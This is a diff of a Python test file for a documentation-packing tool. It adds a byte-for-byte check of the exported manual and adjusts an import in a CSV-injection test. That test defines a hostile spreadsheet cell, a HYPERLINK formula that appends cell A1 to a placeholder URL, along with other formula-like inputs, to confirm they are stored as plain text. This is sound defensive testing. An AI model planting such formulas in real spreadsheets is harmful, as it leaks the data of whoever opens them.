@@ -297,6 +297,19 @@ def test_a_second_pack_of_the_tag_is_the_same_bytes(
     assert again.read_bytes() == first.read_bytes()
 
 
+def test_the_packed_manual_is_what_export_makes_of_the_release(
+    released: Path, unpacked: Path, tmp_path: Path
+) -> None:
+    """The pack and ``smsdocs export`` take one pipeline: exported at the release's commit,
+    the manual is the packed manual, byte for byte."""
+    assert git(released, "describe", "--exact-match") == "v1.1.0"
+    with contextlib.chdir(released):
+        result = CliRunner().invoke(cli, ["export", "-o", str(tmp_path)], catch_exceptions=False)
+    assert result.exit_code == 0, result.stderr
+    for name in ("EX-SMS-001-v1.1.0.pdf", "EX-SMS-001-v1.1.0.docx"):
+        assert (tmp_path / name).read_bytes() == (unpacked / "manual" / name).read_bytes(), name
+
+
 def test_only_an_approved_release_is_packed(released: Path, tmp_path: Path) -> None:
     (released / "notes.txt").write_text("work in progress")  # never in a pack
     code, stdout, stderr = pack(released, "HEAD~1", "-o", str(tmp_path))
@@ -413,7 +426,7 @@ HOSTILE_CELL = '=HYPERLINK("http://example.invalid/?"&A1,"Open")'
 def test_text_in_the_workbooks_is_never_a_formula(tmp_path: Path) -> None:
     """A document titled like a formula is shown as its text by a spreadsheet, from the XLSX
     and from the CSV alike (CSV injection): nothing in the pack runs when it is opened."""
-    from smsdocs.pack import _tables
+    from smsdocs.pack.workbooks import _tables
 
     rows = [["Document", "Owner"], [HOSTILE_CELL, "@SUM(1+1)"], ["-2+3", "Sam Manager"]]
     _tables(tmp_path, "register", "Documented information", "EX · v1 · Internal", rows, 0)
